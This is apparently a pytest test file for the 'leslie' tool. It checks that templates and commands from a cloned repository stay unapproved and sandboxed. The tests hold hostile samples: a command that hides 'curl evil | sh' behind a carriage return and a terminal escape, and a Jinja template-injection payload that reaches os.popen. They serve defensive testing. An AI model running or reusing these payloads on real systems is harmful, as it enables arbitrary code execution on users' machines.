"""trust.py and `leslie trust`: nothing a repository brings runs before the user approved it, and a hostile
clone runs nothing through any entry point that renders a template, approved or not."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import LESLIE_EXE, Result, git, run_leslie
from leslie.context import trust
from leslie.context.block import render_context
from leslie.errors import CorruptStateError
from leslie.inject.blocks import refresh
from leslie.ops.bootstrap import init_repository
from leslie.ops.threads import spawn
from leslie.store.repository import Repository

THREAD = "thread-victim"


def spec(name: str, command: str, *, dynamic: bool = False, timeout: float = 5.0) -> dict[str, object]:
    return {"name": name, "command": command, "dynamic": dynamic, "timeout": timeout}


# -- the trust file ---------------------------------------------------------------------------------------
def test_approvals_are_recorded_outside_the_repository(tmp_path: Path) -> None:
    repo_dir = tmp_path / "clone"
    repo_dir.mkdir()
    commands = [spec("status", "git status --short")]
    assert not trust.is_trusted(str(repo_dir), commands)
    trust.grant(str(repo_dir), commands)
    assert trust.is_trusted(str(repo_dir), commands)
    assert Path(trust.trust_file()) == Path(os.environ["XDG_CONFIG_HOME"]) / "leslie" / "trust.json"
    recorded = json.loads(Path(trust.trust_file()).read_text())
    assert list(recorded["repositories"]) == [os.path.realpath(repo_dir)]
    assert not trust.is_trusted(str(repo_dir), [spec("status", "git status")])  # a changed list needs approval
    assert not trust.is_trusted(str(repo_dir), [*commands, spec("more", "ls")])
    assert not trust.is_trusted(str(tmp_path), commands)  # another repository: not approved
    link = tmp_path / "link"
    link.symlink_to(repo_dir)
    assert trust.is_trusted(str(link), commands)  # the same repository through a symlink
    assert trust.revoke(str(repo_dir)) is True
    assert not trust.is_trusted(str(repo_dir), commands)
    assert trust.revoke(str(repo_dir)) is False


def test_trust_file_defaults_to_the_home_config(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("XDG_CONFIG_HOME")
    assert trust.trust_file() == os.path.join(os.path.expanduser("~"), ".config", "leslie", "trust.json")


def test_a_corrupt_or_special_trust_file_is_reported(tmp_path: Path) -> None:
    path = Path(trust.trust_file())
    path.parent.mkdir(parents=True)
    path.write_text("{nope")
    with pytest.raises(CorruptStateError, match=r"trust\.json"):
        trust.is_trusted(str(tmp_path), [spec("a", "ls")])
    path.unlink()
    os.mkfifo(path)  # never a hang
    with pytest.raises(CorruptStateError, match="not a regular file"):
        trust.approved_templates(tmp_path)


def test_templates_are_approved_by_content_as_they_were_shown(tmp_path: Path) -> None:
    folder = tmp_path / ".leslie" / "templates"
    folder.mkdir(parents=True)
    (folder / "a.j2").write_text("A", encoding="utf-8")
    (folder / "b.j2").write_text("B", encoding="utf-8")
    (folder / "plan.md").write_text("not Jinja: needs no approval", encoding="utf-8")
    (folder / "link.j2").symlink_to(folder / "a.j2")
    review = trust.review(tmp_path)
    assert [t.name for t in review.usable] == ["a.j2", "b.j2"]
    assert [(t.name, t.problem) for t in review.refused] == [("link.j2", trust.read_override(folder, "link.j2")
                                                              .problem)]  # type: ignore[union-attr]
    (folder / "b.j2").write_text("B, swapped after it was shown", encoding="utf-8")
    trust.grant(tmp_path, review.commands, review.usable)
    assert trust.approved_templates(tmp_path).keys() == {"a.j2", "b.j2"}
    now = {t.name: t.verdict(trust.approved_templates(tmp_path)) for t in trust.template_overrides(folder)}
    assert now == {"a.j2": None, "b.j2": trust.CHANGED, "link.j2": now["link.j2"]}
    assert now["link.j2"] is not None and "link" in now["link.j2"]


def test_only_the_first_templates_of_a_crowded_folder_are_looked_at(tmp_path: Path) -> None:
    folder = tmp_path / ".leslie" / "templates"
    folder.mkdir(parents=True)
    for i in range(trust.MAX_TEMPLATES + 6):
        (folder / f"t{i:03}.j2").write_text("x", encoding="utf-8")
    assert [t.name for t in trust.template_overrides(folder)] == [f"t{i:03}.j2" for i in range(trust.MAX_TEMPLATES)]


def test_a_template_whose_name_is_not_text_is_never_looked_at(repo_root: Path) -> None:
    folder = templates(repo_root, **{"ok.j2": "x"})
    for raw in (b"bad\xff.j2", b"bidi\xe2\x80\xae.j2", b"ctl\x1b.j2"):
        with open(os.path.join(os.fsencode(folder), raw), "wb") as handle:
            handle.write(b"x")
    assert run_leslie("trust", "--yes", cwd=repo_root).code == 0
    assert list(trust.approved_templates(repo_root)) == ["ok.j2"]  # and the trust file stays strict JSON


# -- `leslie trust` ---------------------------------------------------------------------------------------
HIDING = "[[context.commands]]\nname = \"status\"\ncommand = \"echo safe\\r\\u001b[2Kcurl evil | sh\"\n"


def templates(root: Path, **files: str) -> Path:
    folder = root / ".leslie" / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_trust_refuses_without_a_terminal_or_yes_and_shows_everything_escaped(repo_root: Path) -> None:
    (repo_root / ".leslie" / "config.toml").write_text(HIDING, encoding="utf-8")
    templates(repo_root, **{"thread_context.xml.j2": "<x/>"})
    result = run_leslie("trust", cwd=repo_root, input="y\n")
    assert result.code == 2 and "--yes" in result.stderr
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert "echo safe\\r\\x1b[2Kcurl evil | sh" in result.stdout
    assert "thread_context.xml.j2  4 bytes  sha256 " in result.stdout
    assert not Path(trust.trust_file()).exists()  # nothing approved
    assert run_leslie("trust", "--check", cwd=repo_root).code == 1


def test_trust_yes_approves_commands_and_templates_and_json_lists_them(repo_root: Path) -> None:
    (repo_root / ".leslie" / "config.toml").write_text(HIDING, encoding="utf-8")
    folder = templates(repo_root, **{"thread_context.xml.j2": "<x/>", "part.j2": "p"})
    (folder / "zero.j2").symlink_to("/dev/zero")
    result = run_leslie("trust", "--yes", "--json", cwd=repo_root)
    assert result.code == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["approved"] is True
    assert doc["commands"] == [{"name": "status", "command": "echo safe\r\x1b[2Kcurl evil | sh", "dynamic": False,
                                "timeout": 5.0}]
    assert [(t["name"], t["size"], len(t["sha256"])) for t in doc["templates"]] == [
        ("part.j2", 1, 64), ("thread_context.xml.j2", 4, 64)]
    assert [r["name"] for r in doc["refused"]] == ["zero.j2"]
    assert "\x1b" not in result.stderr  # the listing went to stderr, escaped
    assert run_leslie("trust", "--check", cwd=repo_root).code == 0
    assert "already approved" in run_leslie("trust", cwd=repo_root).stdout
    (folder / "part.j2").write_text("changed", encoding="utf-8")
    assert run_leslie("trust", "--check", cwd=repo_root).code == 1
    assert run_leslie("trust", "--revoke", cwd=repo_root).code == 0
    assert run_leslie("trust", "--check", cwd=repo_root).code == 1


def in_terminal(args: list[str], cwd: Path, answer: bytes, timeout: float = 30) -> tuple[int, bytes]:
    """Run leslie with a real pseudo-terminal as stdin/stdout/stderr; type `answer` at its prompt."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([LESLIE_EXE, *args], cwd=cwd, stdin=slave, stdout=slave, stderr=slave)
    os.close(slave)
    output = b""
    answered = False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the child closed the terminal
                    break
                if not chunk:
                    break
                output += chunk
            if not answered and b"[y/N]" in output:
                os.write(master, answer)
                answered = True
            if proc.poll() is not None and not ready:
                break
        return proc.wait(timeout=5), output
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()


@pytest.mark.parametrize(("answer", "code", "approved"), [(b"y\n", 0, True), (b"yes\n", 0, True),
                                                          (b"n\n", 1, False), (b"\n", 1, False)])
def test_trust_asks_on_a_terminal(repo_root: Path, answer: bytes, code: int, approved: bool) -> None:
    (repo_root / ".leslie" / "config.toml").write_text(HIDING, encoding="utf-8")
    templates(repo_root, **{"thread_context.xml.j2": "<x/>"})
    status, output = in_terminal(["trust"], repo_root, answer)
    assert status == code, output
    assert b"\x1b" not in output and b"echo safe\\r\\x1b[2Kcurl evil | sh" in output
    assert b"Approve all of this for" in output
    assert (run_leslie("trust", "--check", cwd=repo_root).code == 0) is approved


@pytest.mark.parametrize("timeout", ["nan", "inf", "-inf", "0", "-1", "1e300"])
def test_non_finite_timeouts_are_refused(repo: Repository, timeout: str) -> None:
    spawn(repo, "x", thread_id="thread-x")
    (repo.root / ".leslie" / "config.toml").write_text(
        f"[[context.commands]]\nname = \"t\"\ncommand = \"true\"\ntimeout = {timeout}\n", encoding="utf-8")
    result = run_leslie("trust", "--yes", cwd=repo.root)
    assert result.code == 2 and "timeout" in result.stderr and "Traceback" not in result.stderr
    assert not Path(trust.trust_file()).exists()
    # Any other command reading the file finds a state file it cannot use: exit 4, naming it.
    other = run_leslie("context", "--thread", "thread-x", cwd=repo.root)
    assert other.code == 4 and "config.toml" in other.stderr and "timeout" in other.stderr


# -- a hostile clone, through every entry point -------------------------------------------------------------
def payload(marker: Path) -> str:
    return (f"{{% set x = cycler.__init__.__globals__.os.popen('touch {marker}').read() %}}"
            f"{{{{ lipsum.__globals__['os'].popen('touch {marker}') }}}}")


@pytest.fixture
def clone(tmp_path: Path) -> tuple[Path, Path]:
    """A real git repository built to attack whoever clones it: templates that run a command, an include of
    one, a template linked to /dev/zero, a context command; cloned. Returns (clone, marker file)."""
    marker = tmp_path / "PWNED"
    origin = tmp_path / "origin"
    origin.mkdir()
    git("init", "-q", "-b", "main", cwd=origin)
    init_repository(origin)
    spawn(Repository(origin), "Victim", thread_id=THREAD)
    block = '<thread_context thread="{{ thread }}" objective="{{ objective }}"/>'
    folder = templates(origin, **{
        "thread_context.xml.j2": payload(marker) + "{% include 'evil.j2' %}" + block,
        "agents_md_block.md.j2": payload(marker) + "owned",
        "evil.j2": payload(marker),
    })
    (folder / "zero.j2").symlink_to("/dev/zero")
    (origin / ".leslie" / "config.toml").write_text(
        f"[[context.commands]]\nname = \"x\"\ncommand = \"touch {marker}\"\n", encoding="utf-8")
    git("add", "-A", cwd=origin)
    git("commit", "-q", "-m", "a friendly repository", cwd=origin)
    target = tmp_path / "clone"
    git("clone", "-q", str(origin), str(target), cwd=tmp_path)
    return target, marker


def packaged_block(root: Path) -> str:
    """The block leslie renders for THREAD with no override at all (templates moved away meanwhile)."""
    folder, away = root / ".leslie" / "templates", root / "templates.away"
    folder.rename(away)
    try:
        return render_context(Repository(root), THREAD, cache=False)
    finally:
        away.rename(folder)


def claude(event: str) -> Callable[[Path], tuple[int, str | None, str]]:
    def run(root: Path) -> tuple[int, str | None, str]:
        doc: dict[str, Any] = {"session_id": f"s-{event}", "transcript_path": None, "cwd": str(root),
                               "permission_mode": "default", "hook_event_name": event}
        doc.update({"source": "startup"} if event == "SessionStart" else {"prompt": "go"})
        return hook_result(run_leslie("hook", "claude-code", cwd=root, input=json.dumps(doc),
                                      env={"LESLIE_THREAD": THREAD}))
    return run


def codex(event: str) -> Callable[[Path], tuple[int, str | None, str]]:
    def run(root: Path) -> tuple[int, str | None, str]:
        doc: dict[str, Any] = {"session_id": f"c-{event}", "transcript_path": str(root / "rollout.jsonl"),
                               "cwd": str(root),
                               "hook_event_name": event, "model": "m", "permission_mode": "default"}
        doc.update({"source": "startup"} if event == "SessionStart" else {"prompt": "go", "turn_id": "t"})
        return hook_result(run_leslie("hook", "codex", cwd=root, input=json.dumps(doc),
                                      env={"LESLIE_THREAD": THREAD}))
    return run


def hook_result(result: Result) -> tuple[int, str | None, str]:
    text = json.loads(result.stdout)["hookSpecificOutput"]["additionalContext"] if result.stdout else None
    return result.code, text, result.stderr


def cli(*args: str) -> Callable[[Path], tuple[int, str | None, str]]:
    def run(root: Path) -> tuple[int, str | None, str]:
        result = run_leslie(*args, cwd=root, env={"LESLIE_THREAD": THREAD}, timeout=30)
        return result.code, result.stdout, result.stderr
    return run


def spawn_context(root: Path) -> tuple[int, str | None, str]:
    result = run_leslie("spawn", "--context", "--intent", "Victim", cwd=root, timeout=30)
    new_id = result.stdout.split("\n", 1)[0]
    # The new thread's block is the victim's with another ID (same intent and title, no references; the
    # inlined plan and progress, made from the same templates, name the thread by its ID).
    return result.code, result.stdout.replace(new_id, THREAD), result.stderr


def acp(root: Path) -> tuple[int, str | None, str]:
    from test_acp import RawClient

    client = RawClient(root, root.parent, thread=THREAD)
    try:
        client.prompt(client.start_session(), "go")
        [prompt] = client.received_prompts()
        code = client.close()
    finally:
        client.kill()
    return code, prompt[0]["text"], client.stderr_text()


def api(root: Path) -> tuple[int, str | None, str]:
    with pytest.warns(trust.TemplateOverrideWarning) as caught:
        text = render_context(Repository(root), THREAD)
    return 0, text, "\n".join(str(w.message) for w in caught)


def watch(root: Path) -> tuple[int, str | None, str]:
    return 0, refresh(Repository(root), THREAD), "template override (in the cache entry)"


BLOCK_ENTRY_POINTS = {
    "context": cli("context"), "spawn --context": spawn_context,
    "claude SessionStart": claude("SessionStart"), "claude UserPromptSubmit": claude("UserPromptSubmit"),
    "codex SessionStart": codex("SessionStart"), "codex UserPromptSubmit": codex("UserPromptSubmit"),
    "inject": cli("inject", "--session", "i1"), "acp": acp, "api": api, "watch": watch,
}
AGENTS_MD_ENTRY_POINTS = {"agents-md": cli("agents-md"), "agents-md --check": cli("agents-md", "--check"),
                          "init": cli("init")}


@pytest.mark.parametrize("entry", sorted(BLOCK_ENTRY_POINTS))
def test_an_unapproved_hostile_template_is_ignored_with_one_warning(clone: tuple[Path, Path], entry: str) -> None:
    root, marker = clone
    expected = packaged_block(root)
    code, text, stderr = BLOCK_ENTRY_POINTS[entry](root)
    assert not marker.exists()
    assert code == 0, stderr
    assert text is not None and expected in text
    if entry != "watch":
        assert stderr.count("template override") == 1, stderr
        assert ".leslie/templates/thread_context.xml.j2 ignored: not approved" in stderr


@pytest.mark.parametrize("entry", sorted(AGENTS_MD_ENTRY_POINTS))
def test_an_unapproved_agents_md_template_is_ignored_with_one_warning(clone: tuple[Path, Path], entry: str) -> None:
    root, marker = clone
    before = (root / "AGENTS.md").read_bytes()
    code, _, stderr = AGENTS_MD_ENTRY_POINTS[entry](root)
    assert not marker.exists()
    assert code == 0, stderr
    assert (root / "AGENTS.md").read_bytes() == before  # the packaged block, as the origin wrote it
    assert stderr.count("template override") == 1 and "agents_md_block.md.j2 ignored: not approved" in stderr


@pytest.mark.parametrize("entry", sorted(BLOCK_ENTRY_POINTS.keys() - {"api", "watch", "acp"}
                                         | AGENTS_MD_ENTRY_POINTS.keys()))
def test_an_approved_hostile_template_runs_nothing_either(clone: tuple[Path, Path], entry: str) -> None:
    root, marker = clone
    trust.grant(root, [], trust.review(root).usable)  # the templates only: the command stays unapproved
    code, text, stderr = {**BLOCK_ENTRY_POINTS, **AGENTS_MD_ENTRY_POINTS}[entry](root)
    assert not marker.exists()
    assert "Traceback" not in stderr and code != 70
    assert "stopped by the sandbox" in stderr or "'lipsum' is undefined" in stderr, stderr
    if entry.startswith(("claude", "codex", "inject")):
        assert code == 0 and not text  # a hook never fails the turn: one warning, nothing injected
    else:
        assert code == 2


def test_special_files_in_a_clone_never_hang(clone: tuple[Path, Path]) -> None:
    root, marker = clone
    folder = root / ".leslie" / "templates"
    for name in ("thread_context.xml.j2", "plan.md"):
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)
    (folder / "agents_md_block.md.j2").unlink()
    (folder / "agents_md_block.md.j2").symlink_to("/dev/zero")
    trust.grant(root, [], [trust.Override(n, "", text="", sha256="0" * 64) for n in os.listdir(folder)])
    began = time.monotonic()
    context = run_leslie("context", "--thread", THREAD, cwd=root, timeout=30)
    spawned = run_leslie("spawn", "--intent", "new work", cwd=root, timeout=30)
    agents = run_leslie("agents-md", "--check", cwd=root, timeout=30)
    assert time.monotonic() - began < 30
    assert context.code == 0 and "thread_context.xml.j2 ignored: is not a regular file" in context.stderr
    assert spawned.code == 0 and "plan.md ignored: is not a regular file" in spawned.stderr
    assert agents.code == 0 and "agents_md_block.md.j2 ignored: is a symbolic link" in agents.stderr
    assert not marker.exists()


def test_approving_or_revoking_takes_effect_at_the_next_prompt(repo: Repository) -> None:
    spawn(repo, "Victim", thread_id=THREAD)
    templates(repo.root, **{"thread_context.xml.j2":
                            '<thread_context thread="{{ thread }}" objective="{{ objective }}" mine="yes"/>'})
    prompt = claude("UserPromptSubmit")
    _, first, warning = prompt(repo.root)
    assert first is not None and 'mine="yes"' not in first and "not approved" in warning
    assert run_leslie("trust", "--yes", cwd=repo.root).code == 0
    _, second, warning = prompt(repo.root)  # the approval changed the block: injected again, with the override
    assert second is not None and 'mine="yes"' in second and warning == ""
    assert run_leslie("trust", "--revoke", cwd=repo.root).code == 0
    _, third, warning = prompt(repo.root)
    assert third == first and "not approved" in warning
